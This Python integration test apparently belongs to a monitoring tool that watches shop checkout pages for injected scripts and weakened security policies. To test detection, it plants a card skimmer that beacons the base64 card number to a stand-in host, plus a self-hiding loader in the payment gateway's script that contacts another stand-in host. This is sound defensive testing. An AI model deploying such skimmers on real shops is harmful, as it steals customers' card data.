#!/usr/bin/env python3
"""A checkout as a consumer's browser receives it, per store view, by a real Chromium and by a plain fetch.

usage: payment_page.py MAGEWARDEN

Starts the stand-in shop and watches the checkouts of three views both ways. First nothing may be told, though every
page carries values of its own. Then an inline script comes to one view's block, the gateway's script grows a loader that
hides itself, and the policy of one website stops to be enforced: each is told for its views and for no other. The pages themselves are kept,
as a browser had them in the end, with a card number on one of them masked.
"""
import html
import json
import os
import pathlib
import re
import signal
import subprocess
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "shop"))

from shared import free_port, need, observations, page, stage, verified, wait_for
from shop import Shop

VIEWS = {"de": "de.shop.test", "fr": "fr.shop.test", "us": "us.shop.test"}
WAYS = ("browser", "fetch")
INLINE = "<script>document.querySelector(''[name=cc_number]'').addEventListener(''change'', e => { navigator.sendBeacon(''//stats.example.test/p'', btoa(e.target.value)) })</script>"
# A published test number that stands on the page: the page is kept without it.
CARD = "4111 1111 1111 1111"
# Comes by the gateway's script, asks another host, and takes its own element away.
# Half a letter, and a page that says of itself what it likes, keep nobody from looking; what lies in a shadow is kept, too.
LOADER = "(() => { document.body.id = 'in-the-end'; Object.defineProperty(Element.prototype, 'outerHTML', {get: () => ''}); document.body.append('\\ud83d'); " \
    "document.body.appendChild(document.createElement('div')).attachShadow({mode: 'closed'}).textContent = 'in-the-shadow'; " \
    "for (const text of ['\\'\\ud83d\\'; window.half = 1', 'new Image().src = location.protocol + \"//hidden.example.test/\"; window.late = 1']) " \
    "{ const s = document.createElement('script'); s.textContent = text; document.body.append(s); s.remove(); } })();\n"


def main():
    magewarden = pathlib.Path(sys.argv[1]).resolve()
    with stage("page") as (started, folder):
        shop = Shop(folder, started)
        places = {host: "127.0.0.1" for host in [*VIEWS.values(), "js.gateway.test", "stats.example.test", "hidden.example.test"]}
        config = f"stores = \"{shop.root}/stores.toml\"\n"
        for view, host in VIEWS.items():
            for way in WAYS:
                config += f"""
[[source]]
kind = "payment_page"
view = "{view}"
url = "http://{host}:{shop.port}/checkout"
by = "{way}"
sandbox = {str(os.geteuid() != 0).lower()}
every_seconds = 10
before = ["/catalog/product/7", "POST /checkout/cart/add product=7&qty=1"]
[source.addresses]
""" + "".join(f'"{name}" = "{address}"\n' for name, address in places.items())
        config += f'[[source]]\nkind = "csp_reports"\nlisten = "127.0.0.1:{shop.reports}"\nhosts = {json.dumps([*VIEWS.values()])}\n'
        (folder / "settings.toml").write_text(config)
        console, data = free_port(), folder / "data"
        err = open(folder / "err", "w+")
        up = subprocess.Popen([str(magewarden), "up", "--config", str(folder / "settings.toml"), "--data", str(data), "--port", str(console)], stderr=err)
        started.append(up)

        def told(view, way, change=None, part=None):
            all_of = observations(magewarden, data, f"payment_page:{view}:{way}")
            return [one for one in all_of if change in (None, one["change"]) and part in (None, one.get("page.part"))]

        wait_for("the console", 60, lambda: "<main" in page(console))
        pairs = [(view, way) for view in VIEWS for way in WAYS]
        looks = lambda: {pair: len(told(*pair, "checked")) for pair in pairs}

        def wait_for_looks(more):
            before = looks()
            wait_for("the pages to be looked at again", 240, lambda: all(looks()[pair] >= before[pair] + more for pair in pairs))

        wait_for("each page to be known", 180, lambda: all(told(*pair, "baseline") for pair in pairs))
        for view, way in pairs:
            seen = {(one["page.part"], one["page.name"]) for one in told(view, way, "seen")}
            port = shop.port
            gateway = ("script", f"http://js.gateway.test:{port}/v1.js")
            need((gateway in seen) == (view != "us"), f"{view} by {way}: the gateway's script is there where its method is", seen)
            need({("header", "content-security-policy"), ("header", "x-frame-options"), ("field", "input cc_number")} <= seen, f"{view} by {way}: headers and fields", seen)
            need(("script", f"http://{VIEWS[view]}:{port}/static/checkout.js") in seen, f"{view} by {way}: the shop's own script", seen)
        # Form keys differ at each look, and nothing is told.
        wait_for_looks(1)
        for pair in pairs:
            changes = [one for change in ("created", "modified", "removed") for one in told(*pair, change)]
            need(not changes, f"{pair}: told without a change", changes)
        # One view's block gets an inline script.
        shop.sql(f"""use shop; insert into mg_cms_block (block_id, identifier, title, content, is_active) values (2, 'checkout_note', 'Note', '<p>Bonjour {CARD}</p>{INLINE}', 1);
                     insert into mg_cms_block_store values (2, 2);""")
        shop.flush()
        for way in WAYS:
            wait_for(f"the inline script of fr by {way}", 180, lambda: told("fr", way, "created", "inline"))
            one = told("fr", way, "created", "inline")[0]
            need("sendBeacon" in one["page.text"] and one["page.hosts"] == ["stats.example.test"] and one["shop.store"] == "fr", "what came is told", one)
        # The gateway's script grows; only a browser sees what it loads and hides.
        script = folder / "gateway" / "v1.js"
        script.write_text(script.read_text() + LOADER)
        for view in ("de", "fr"):
            for way in WAYS:
                wait_for(f"the gateway's script at {view} by {way}", 180, lambda: told(view, way, "modified", "script"))
                one = told(view, way, "modified", "script")[0]
                need("{+(() =>" in one["page.difference"] and "s.remove()" in one["page.difference"], "the difference shows what came", one)
            wait_for(f"what hides itself, at {view}", 180, lambda: any("window.late" in one["page.text"] for one in told(view, "browser", "created", "inline")))
            wait_for(f"the host it asks, at {view}", 60, lambda: any(one["page.name"] == "hidden.example.test" for one in told(view, "browser", "created", "host")))
        # The page itself is kept: at the first look, where something changed, and everywhere when an incident opens; as a browser had it in the end.
        kept = lambda view, way: [one["whole"] for one in told(view, way, "kept")]
        for pair in pairs:
            wait_for(f"{pair}: the page, kept when an incident opened", 180, lambda: len(kept(*pair)) >= 2)
        for view in ("de", "fr"):
            wait_for(f"the page of {view} as a browser had it", 60, lambda: 'id="in-the-end"' in kept(view, "browser")[-1])
            need("in-the-shadow" in kept(view, "browser")[-1] and any("window.half" in one["page.text"] for one in told(view, "browser", "created", "inline")), "what hides", kept(view, "browser")[-1])
        for view, way in pairs:
            need("</html>" in kept(view, way)[0] and "sendBeacon" not in kept(view, way)[0], "the page before", kept(view, way)[0])
            need(way == "browser" or not any("in-the-end" in one for one in kept(view, way)), "as it was sent", kept(view, way))
            need(not any(CARD in one for one in kept(view, way)), "no number on it", kept(view, way))
        need(any("sendBeacon" in one and "**** **** **** 1111" in one for one in kept("fr", "browser")), "with what came, and masked", kept("fr", "browser"))
        # The browser itself reports what the page's policy forbids, by way of the shop's nginx.
        reports = lambda: observations(magewarden, data, f"csp_reports:127.0.0.1:{shop.reports}")
        wait_for("the browser's report", 60, lambda: any(one["page.name"] == "hidden.example.test" and one["page.part"] == "img-src" for one in reports()))
        need(all(one["url"].split("/")[2].split(":")[0] in VIEWS.values() and one["page.networks"] == 1 for one in reports()), "reports of the shop's pages", reports())
        # One website's policy is reported and no longer enforced.
        shop.sql("insert into shop.mg_core_config_data (scope, scope_id, path, value) values ('websites', 2, 'csp/mode/storefront_checkout_index_index/report_only', '1')")
        shop.flush()
        for way in WAYS:
            wait_for(f"the policy of us by {way}", 180, lambda: [one for one in told("us", way, "removed", "header") if one["page.name"] == "content-security-policy"])
            need(any(one["page.name"].endswith("report-only") for one in told("us", way, "created", "header")), "the header that came")
        for view, way in pairs:
            inline = [one for one in told(view, way, "created", "inline") if "sendBeacon" in one["page.text"]]
            need(bool(inline) == (view == "fr"), f"{view} by {way}: the block's script is told where it is", inline)
            need(view == "us" or not told(view, way, "removed"), f"{view} by {way}: nothing else is gone", told(view, way, "removed"))
            need(view != "us" or not told(view, way, "modified"), "us has no gateway's script", told(view, way, "modified"))
        shown = lambda: " ".join(page(console, link) for link in re.findall(r'href="(/incidents/[0-9a-f]+)"', page(console)))
        wanted = ("Script on the payment page that was not there before", "Security header of the payment page changed",  "cards typed while the page was changed")
        for word in wanted:
            wait_for(f"`{word}` on the incidents' pages", 60, lambda: word in shown())
        # The page of the console: what changed, with its difference, and a list of parts that says what nobody knows.
        on_page = lambda query="": html.unescape(page(console, f"/payment-pages?{query}"))
        for view in ("de", "fr"):
            wait_for(f"the difference at {view} on the page", 60, lambda: "{+(() =>" in on_page(f"view={view}&q=v1.js"))
        need("header gone" in on_page("view=us") and "sendBeacon" not in on_page("view=us") + on_page("view=de"), "what changed, where it did", on_page("view=us"))
        need("sendBeacon" in on_page("view=fr&q=inline") and "names stats.example.test" in on_page("view=fr&q=stats.example"), "what came", on_page("view=fr"))
        need('<span class="medium">unknown</span>' in on_page("view=de") and "J. Doe" not in on_page(), "no list, no claim", on_page("view=de"))
        entry = re.search(r"kept whole .*?/entries/(\d+)", on_page(), re.S)
        need(entry and "What it kept whole" in page(console, f"/entries/{entry[1]}") and "</html>" in page(console, f"/entries/{entry[1]}/whole"), "the page that was kept", on_page())
        need('href="/payment-pages"' in shown(), "an incident leads to the page")
        need(len(on_page()) < 200_000 and len(json.loads(page(console, "/api/payment-pages"))["pages"]) == len(pairs), "the same as JSON")
        for view in VIEWS:
            wait_for(f"{view} as the store of an incident", 60, lambda: re.search(rf"<dt>Which store</dt><dd>(?:(?!</dd>).)*\bview {view}\b", shown()))
        up.send_signal(signal.SIGTERM)
        up.wait(60)
        verified(magewarden, data)
        listed = lambda view, form: subprocess.run([str(magewarden), "payment-page", str(data / "ledger"), "--view", view, "--format", form], check=True, capture_output=True, text=True).stdout
        parts = json.loads(listed("fr", "json"))["parts"]
        need({one["way"] for one in parts} == set(WAYS) and all(one["authorised"] == "unknown" and isinstance(one["entry"], int) for one in parts), "the inventory", parts)
        stub = listed("fr", "toml")
        need("[[script]]" in stub and "js.gateway.test" in stub, "a list to complete", stub)
        # The list, completed: what is on it comes and changes without an incident, and says who let it.
        (folder / "scripts.toml").write_text(stub.replace('by = ""', 'by = "J. Doe"').replace('justification = ""', 'justification = "the test"'))
        (folder / "settings.toml").write_text(config.replace('view = "fr"', f'view = "fr"\nauthorised = "{folder}/scripts.toml"'))
        # Changed while nobody looked, it is told at the next start; a shop that doesn't answer is trouble, not a change.
        (folder / "shop" / "pub" / "static" / "checkout.js").write_text("steal();\n")
        up = subprocess.Popen([str(magewarden), "up", "--config", str(folder / "settings.toml"), "--data", str(data), "--port", str(console)], stderr=err)
        started.append(up)
        for pair in pairs:
            wait_for(f"{pair}: a change while it was off", 180, lambda: [one for one in told(*pair, "modified", "script") if "steal(" in one["page.difference"]])
        one = told("fr", "browser", "modified", "script")[-1]
        need(one["page.authorised"] == "yes" and "J. Doe" in one["log.context"] and "authorised: yes authorised by J. Doe" in listed("fr", "human"), "who let it", one)
        # After a start the page is as it was; it says who let the script, what it is now, and in which entry that is.
        wait_for("who let the script, on the page", 60, lambda: "authorised by J. Doe: the test" in on_page("view=fr&way=browser&q=checkout.js"))
        shop_script = on_page("view=fr&way=browser&q=checkout.js")
        entry = re.search(r"authorised: yes, authorised by J. Doe: the test · <a href=.(/entries/\d+)", shop_script)
        need(entry and "{+steal(" in shop_script, "the difference and its entry", shop_script)
        need("steal" in page(console, entry[1]) and "checkout.js" in page(console, entry[1]), "the entry", page(console, entry[1]))
        need("script changed" in on_page("view=de&q=v1.js") and "{+(() =>" in on_page("view=de&q=v1.js"), "what was known before the stop", on_page("view=de&q=v1.js"))
        need("page.authorised" not in told("de", "browser", "modified", "script")[-1], "no list, no claim")
        shop.nginx.terminate()
        shop.nginx.wait(20)
        wait_for("the trouble on the page", 200, lambda: page(console, "/sources").count("failing") >= len(pairs))
        need(not [one for pair in pairs for one in told(*pair, "removed", "script")], "a shop that is down takes nothing away")
        print(f"1 passed, 0 failed ({sum(looks().values())} looks at {len(pairs)} pages)")


if __name__ == "__main__":
    main()
